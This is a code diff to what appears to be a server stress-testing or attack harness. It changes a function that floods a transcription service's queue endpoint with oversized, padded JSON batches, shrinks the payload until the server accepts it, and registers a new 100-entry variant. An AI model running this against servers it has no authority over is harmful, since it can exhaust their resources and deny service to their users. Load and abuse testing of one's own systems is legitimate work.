@@ -185,14 +185,19 @@ def queue_pattern(pattern: Pattern, target: Target, at_once: int = 1) -> None:
     _send(target, WHISPER + QUEUE, pattern_body(pattern, target.size(QUEUED)), JSON, at_once=at_once)
 
 
-def queue_references(target: Target, reference: Pattern = (b'"', b"r", b'"')) -> None:
-    """Batch after batch whose results keep what the client calls them."""
-    body = b'{"requests":[{"external_reference":%s}]}' % pattern_body(reference, target.size(QUEUED) - 100)
+def queue_references(target: Target, reference: Pattern = (b'"', b"r", b'"'), entries: int = 1) -> None:
+    """Batch after batch whose results keep what the client calls them, as long as the server takes it."""
     until, statuses = time.monotonic() + 6 * target.seconds, []
+    size = target.size(QUEUED) // entries - 100
     while statuses.count(200) < target.size(256, 8) and time.monotonic() < until:
+        entry = b'{"external_reference":%s}' % pattern_body(reference, size)
+        body = b'{"requests":[%s]}' % b",".join([entry] * entries)
         statuses.append(exchange(target, *post(WHISPER + QUEUE, body, JSON)).status)
-        if statuses[-1] != 200:
+        if statuses[-1] == 429:
             time.sleep(0.1)
+        elif statuses[-1] != 200 and 200 not in statuses and size > 10:
+            size //= 4  # too long for this server
+    target.notes.append(f"{entries} x {size:,} bytes")
     target.note_statuses(statuses)
 
 
@@ -337,6 +342,7 @@ def attacks() -> dict[str, Callable[[Target], None]]:
         "queue-without-requests": partial(queue_pattern, (b'{"x":[', b"{},", b"{}]}")),
         "queue-references": queue_references,
         "queue-references-nested": partial(queue_references, reference=(b"[", b"{},", b"{}]")),
+        "queue-references-100": partial(queue_references, entries=100),
         "queue-errors": queue_errors,
         "queue-clips": queue_clips,
         "queue-polls": queue_polls,
